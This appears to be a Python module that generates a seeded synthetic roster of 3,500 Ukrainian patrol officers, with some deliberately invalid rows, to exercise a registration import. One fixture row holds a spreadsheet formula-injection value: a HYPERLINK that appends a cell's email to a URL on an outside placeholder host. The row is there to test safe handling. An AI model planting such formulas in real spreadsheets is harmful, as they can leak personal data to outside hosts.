"""The patrol-police course's demo roster: 3,500 officers in 20 cohorts, the way a regional
department would send them (Ukrainian headers, Cyrillic names, a few in Latin letters), with
a few deliberately bad rows so the dry run shows its reasons.

``PATROL_COHORTS`` is the course's cohorts (code, region, city); the demo loader creates
those cohorts and the roster file names them. The shipped file is
``registration/programmes/demo/patrol-police-roster.xlsx``; it is made by
``write_patrol_roster`` (run ``python -m registration.programmes.demo_roster`` to make it
again: the same seed writes the same people).
"""

from __future__ import annotations

import random
import sys
from pathlib import Path

from registration.spreadsheets import XlsxSheet, xlsx_workbook

#: (cohort code, region, city) of the course's twenty cohorts.
PATROL_COHORTS: tuple[tuple[str, str, str], ...] = (
    ("patrol-01", "Kyiv", "Kyiv"),
    ("patrol-02", "Kharkiv", "Kharkiv"),
    ("patrol-03", "Lviv", "Lviv"),
    ("patrol-04", "Odesa", "Odesa"),
    ("patrol-05", "Dnipro", "Dnipro"),
    ("patrol-06", "Zaporizhzhia", "Zaporizhzhia"),
    ("patrol-07", "Vinnytsia", "Vinnytsia"),
    ("patrol-08", "Poltava", "Poltava"),
    ("patrol-09", "Chernihiv", "Chernihiv"),
    ("patrol-10", "Sumy", "Sumy"),
    ("patrol-11", "Zhytomyr", "Zhytomyr"),
    ("patrol-12", "Rivne", "Rivne"),
    ("patrol-13", "Volyn", "Lutsk"),
    ("patrol-14", "Ternopil", "Ternopil"),
    ("patrol-15", "Ivano-Frankivsk", "Ivano-Frankivsk"),
    ("patrol-16", "Zakarpattia", "Uzhhorod"),
    ("patrol-17", "Chernivtsi", "Chernivtsi"),
    ("patrol-18", "Khmelnytskyi", "Khmelnytskyi"),
    ("patrol-19", "Cherkasy", "Cherkasy"),
    ("patrol-20", "Mykolaiv", "Mykolaiv"),
)

ROSTER_PATH = Path(__file__).resolve().parent / "demo" / "patrol-police-roster.xlsx"

#: The headers as a Ukrainian department writes them (the import reads them by name).
HEADERS = (
    "Ім'я",
    "Прізвище",
    "Електронна пошта",
    "Стать",
    "Організація",
    "Посада",
    "Регіон",
    "Код групи",
    "Мова",
)

MALE = (
    "Олександр", "Андрій", "Сергій", "Дмитро", "Володимир", "Іван", "Микола", "Юрій",
    "Василь", "Олег", "Богдан", "Тарас", "Максим", "Роман", "Віталій", "Євген", "Ігор",
    "Петро", "Остап", "Ярослав",
)  # fmt: skip
FEMALE = (
    "Олена", "Наталія", "Тетяна", "Ірина", "Оксана", "Юлія", "Марія", "Світлана",
    "Анна", "Катерина", "Людмила", "Вікторія", "Галина", "Софія", "Дарина", "Христина",
    "Ольга", "Надія", "Ярослава", "Леся",
)  # fmt: skip
#: Family names the same for both sexes, and (male, female) pairs.
FAMILY_SAME = (
    "Коваленко", "Бондаренко", "Шевченко", "Ткаченко", "Кравченко", "Мельник", "Шевчук",
    "Бойко", "Лисенко", "Руденко", "Савченко", "Петренко", "Марченко", "Поліщук", "Гончар",
    "Мороз", "Павленко", "Левченко", "Кушнір", "Дячук",
)  # fmt: skip
FAMILY_PAIRS = (
    ("Ковальський", "Ковальська"), ("Олійник", "Олійник"), ("Яковлев", "Яковлева"),
    ("Гнатюк", "Гнатюк"), ("Соловйов", "Соловйова"), ("Білоус", "Білоус"),
    ("Вишневський", "Вишневська"), ("Заїка", "Заїка"), ("Литвиненко", "Литвиненко"),
)  # fmt: skip
POSITIONS = (
    "інспектор", "старший інспектор", "інспектор-водій", "командир відділення",
    "заступник командира взводу", "командир взводу",
)  # fmt: skip

#: Ukrainian → Latin (the national transliteration, simplified to the letters used here).
TRANSLIT = {
    "а": "a", "б": "b", "в": "v", "г": "h", "ґ": "g", "д": "d", "е": "e", "є": "ie",
    "ж": "zh", "з": "z", "и": "y", "і": "i", "ї": "i", "й": "i", "к": "k", "л": "l",
    "м": "m", "н": "n", "о": "o", "п": "p", "р": "r", "с": "s", "т": "t", "у": "u",
    "ф": "f", "х": "kh", "ц": "ts", "ч": "ch", "ш": "sh", "щ": "shch", "ь": "", "ю": "iu",
    "я": "ia", "'": "", "’": "",
}  # fmt: skip


def transliterate(text: str) -> str:
    out = []
    for ch in text:
        latin = TRANSLIT.get(ch.lower(), ch)
        out.append(latin.capitalize() if ch.isupper() else latin)
    return "".join(out)


def patrol_roster_rows(*, rows: int = 3500, seed: int = 17, bad: bool = True) -> list[list]:
    """The roster's data rows (no header): ``rows`` in all, a few of them bad when ``bad``.

    Good rows are spread evenly over ``PATROL_COHORTS``; about one in twelve is written in
    Latin letters; both sexes; each person's e-mail is unique.
    """
    rng = random.Random(seed)
    bad_rows = _bad_rows() if bad else []
    good = rows - len(bad_rows)
    result: list[list] = []
    for i in range(good):
        code, region, city = PATROL_COHORTS[i % len(PATROL_COHORTS)]
        female = rng.random() < 0.38
        given = rng.choice(FEMALE if female else MALE)
        if rng.random() < 0.6:
            family = rng.choice(FAMILY_SAME)
        else:
            family = rng.choice(FAMILY_PAIRS)[1 if female else 0]
        email = f"{transliterate(given)}.{transliterate(family)}.{i + 1}@patrol.example.org"
        latin = rng.random() < 0.08
        result.append(
            [
                transliterate(given) if latin else given,
                transliterate(family) if latin else family,
                email.lower(),
                ("female" if female else "male") if latin else ("жіноча" if female else "чоловіча"),
                f"Patrol Police, {city}" if latin else f"Патрульна поліція, {city}",
                rng.choice(POSITIONS),
                region,
                code,
                "uk",
            ]
        )
    # The bad rows among the others, where a person reading the report meets them.
    for offset, row in enumerate(bad_rows):
        result.insert(min(len(result), 40 + offset * 97), row)
    return result


def _bad_rows() -> list[list]:
    return [
        # An address without its domain.
        ["Петро", "Гнатюк", "petro.hnatiuk@", "чоловіча", "Патрульна поліція, Kyiv",
         "інспектор", "Kyiv", "patrol-01", "uk"],
        # No family name.
        ["Оксана", "", "oksana.no-family@patrol.example.org", "жіноча",
         "Патрульна поліція, Lviv", "інспектор", "Lviv", "patrol-03", "uk"],
        # A cohort the course does not have.
        ["Тарас", "Мороз", "taras.moroz.x@patrol.example.org", "чоловіча",
         "Патрульна поліція, Kyiv", "інспектор", "Kyiv", "patrol-21", "uk"],
        # A region no cohort is in.
        ["Ірина", "Бойко", "iryna.boiko.x@patrol.example.org", "жіноча",
         "Патрульна поліція, Odesa", "інспектор", "Атлантида", "patrol-04", "uk"],
        # A formula where the organisation should be: read as text, never calculated.
        ["Максим", "Руденко", "maksym.rudenko.x@patrol.example.org", "чоловіча",
         '=HYPERLINK("http://example.com/?"&C2,"Click")', "інспектор", "Dnipro",
         "patrol-05", "uk"],
        # A value of sex the import does not know.
        ["Юлія", "Савченко", "yuliia.savchenko.x@patrol.example.org", "x",
         "Патрульна поліція, Sumy", "інспектор", "Sumy", "patrol-10", "uk"],
        # The same person twice, in two cohorts (the second row is skipped).
        ["Олег", "Кушнір", "oleh.kushnir.x@patrol.example.org", "чоловіча",
         "Патрульна поліція, Rivne", "інспектор", "Rivne", "patrol-12", "uk"],
        ["Олег", "Кушнір", "Oleh.Kushnir.X@patrol.example.org", "чоловіча",
         "Патрульна поліція, Lutsk", "інспектор", "Volyn", "patrol-13", "uk"],
    ]  # fmt: skip


def write_patrol_roster(path: Path | str = ROSTER_PATH, **options) -> Path:
    """Write the demo roster workbook to ``path`` (text cells only, formulas as text: through
    ``registration.spreadsheets``). Side effects: the file."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as out:
        xlsx_workbook(
            [XlsxSheet(title="Список", header=HEADERS, rows=patrol_roster_rows(**options))],
            out=out,
        )
    return path


if __name__ == "__main__":
    sys.stdout.write(f"{write_patrol_roster()}\n")
